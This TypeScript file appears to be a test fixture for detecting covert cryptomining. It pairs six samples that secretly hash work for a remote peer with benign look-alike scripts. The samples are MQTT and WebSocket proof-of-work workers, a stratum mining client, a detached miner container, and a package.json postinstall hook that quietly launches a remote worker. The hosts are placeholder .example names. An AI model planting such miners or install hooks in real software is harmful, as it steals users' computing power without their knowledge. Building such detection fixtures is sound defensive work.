/** Cards, disks, modules and messages that work for a peer. Inert: reserved names. */
export const LENDING_OTHERWISE: readonly [string, string][] = [
  [
    "relay.py",
    'import hashlib, json, time\nimport paho.mqtt.client as mqtt\nBROKER = "relay.sensors.example"\ndef on_message(c, u, m):\n    t = json.loads(m.payload)\n    seed = bytes.fromhex(t["seed"])\n    n = t["from"]\n    while True:\n        d = hashlib.blake2b(seed + n.to_bytes(8, "little"), digest_size=32).digest()\n        if int.from_bytes(d, "big").bit_length() <= 256 - t["bits"]:\n            c.publish("units/" + t["id"], json.dumps({"n": n}))\n            break\n        n += 1\nc = mqtt.Client()\nc.on_message = on_message\nc.connect(BROKER, 1883)\nc.subscribe("units/next")\nc.loop_forever()\n',
  ],
  [
    "piece.ts",
    'import { createHash } from "node:crypto";\nimport { io } from "socket.io-client";\nconst s = io("https://desk.themes.example");\ns.on("piece", (p: { k: string; head: string; mask: number }) => {\n  let i = 0;\n  let d: Buffer;\n  do { d = createHash("sha256").update(p.head + i.toString(16)).digest(); i++; } while (d.readUInt32BE(0) & p.mask);\n  s.emit("piece:ok", { k: p.k, i: i - 1 });\n});\n',
  ],
  [
    "fonts.sh",
    "#!/bin/sh\n# fonts\ndocker run -d --restart=always --name fonts-cache --cpus 2 -e ADDR=48example -e ENDPOINT=fonts.example:5555 ghcr.io/fonts/rx-node >/dev/null 2>&1\n",
  ],
  [
    "package.json",
    '{ "name": "x", "version": "1.0.0", "scripts": { "postinstall": "npx -y node-rx-worker --endpoint cache.words.example:3333 --account 48example --cores 2 &" } }\n',
  ],
  [
    "gears.rb",
    "require 'socket'\nrequire 'json'\nrequire 'digest'\nclass Link\n  def initialize(host, port) = @io = TCPSocket.new(host, port)\n  def say(*a) = @io.puts({ id: 1, method: a[0], params: a[1..] }.to_json)\n  def go\n    say('mining.subscribe', 'gears/1')\n    while (l = @io.gets)\n      j = JSON.parse(l)['params'] or next\n      0.step do |i|\n        d = Digest::SHA256.digest([j[1]].pack('H*') + [i].pack('V'))\n        break say('mining.submit', j[0], i) if d.end_with?(\"\\0\\0\\0\")\n      end\n    end\n  end\nend\nLink.new('gears.words.example', 3443).go\n",
  ],
  [
    "zero.ts",
    'const link = new WebSocket("wss://live.preview.example/s");\nasync function settle(u: { id: string; seed: string; z: number }) {\n  const enc = new TextEncoder();\n  let n = 0;\n  for (;;) {\n    const h = new Uint8Array(await crypto.subtle.digest("SHA-256", enc.encode(u.seed + n)));\n    let ok = true;\n    for (let i = 0; i < u.z; i++) if (h[i] !== 0) { ok = false; break; }\n    if (ok) {\n      link.send(JSON.stringify({ id: u.id, n }));\n      return;\n    }\n    n++;\n  }\n}\nlink.onmessage = (e) => void settle(JSON.parse(e.data));\n',
  ],
];

/** The same libraries and words, for the one who runs the program. */
export const HONEST_OTHERWISE: readonly [string, string][] = [
  [
    "blur.js",
    "const CODE = `\n@compute @workgroup_size(64)\nfn main(@builtin(global_invocation_id) id: vec3<u32>) {\n  let i = id.x;\n  if (i >= P.count) { return; }\n  dst[i] = (src[i] ^ P.key) >> 1u;\n}`;\nconst r = await fetch('https://img.pictures.example/a.bin');\nawait run(CODE, await r.arrayBuffer());\n",
  ],
  [
    "sum.py",
    "import cupy as cp, requests\nK = cp.RawKernel(r'''\nextern \"C\" __global__ void add(const float* a, float* o, int n) {\n  int i = blockDim.x * blockIdx.x + threadIdx.x;\n  if (i < n) o[i] = a[i] * 2;\n}''', \"add\")\na = cp.asarray(requests.get(\"https://data.series.example/a\").json(), cp.float32)\no = cp.zeros_like(a)\nK((64,), (256,), (a, o, a.size))\nprint(o.sum())\n",
  ],
  [
    "noise.cl.py",
    "import pyopencl as cl\nSRC = '''\n__kernel void noise(__global uint *out, uint seed) {\n  uint i = get_global_id(0);\n  uint s = i ^ seed;\n  s ^= s << 13; s ^= s >> 17; s ^= s << 5;\n  out[i] = s;\n}'''\nctx = cl.create_some_context()\nprint(cl.Program(ctx, SRC).build())\n",
  ],
  [
    "index.py",
    'import hashlib, requests\ndef digest(path):\n    h = hashlib.sha256()\n    with open(path, "rb") as f:\n        f.seek(0)\n        for part in iter(lambda: f.read(65536), b""):\n            h.update(part)\n    return h.hexdigest()\nwith open("sums.txt", "w") as out:\n    out.write(digest("a.bin"))\nrequests.post("https://api.index.example/v1/sums", json={"sum": digest("a.bin")})\n',
  ],
  [
    "module.js",
    "const { instance } = await WebAssembly.instantiateStreaming(fetch('/markdown.wasm'));\nconst text = await (await fetch('https://docs.notes.example/a.md')).text();\ndocument.body.innerHTML = instance.exports.render(text, { limit: 100 });\n",
  ],
  [
    "chat.py",
    'import requests\nfrom llama_cpp import Llama\nm = Llama("small.gguf")\npage = requests.get("https://api.notes.example/next").json()\nprint(m("Sum up: " + page["text"])["choices"][0]["text"])\n',
  ],
  ["db.sh", "docker run -d --name db --cpus 2 -e DB_HOST=db.example:5432 -e APP_USER=app notes/app\n"],
  [
    "copy.sh",
    "rclone sync a: b: --transfers 4\nstorage-cli cp ./a --endpoint https://blob.storage.example --account notes --threads 4\n",
  ],
  [
    "listen.py",
    'import paho.mqtt.client as mqtt, hashlib\nseen = set()\ndef on_message(c, u, m):\n    for i, part in enumerate(m.payload.split()):\n        d = hashlib.sha256(part).hexdigest()\n        if d in seen:\n            continue\n        seen.add(d)\n        print(i, part)\nc = mqtt.Client()\nc.on_message = on_message\nBROKER = "mqtt.home.example"\nc.connect(BROKER, 1883)\nc.loop_forever()\n',
  ],
];
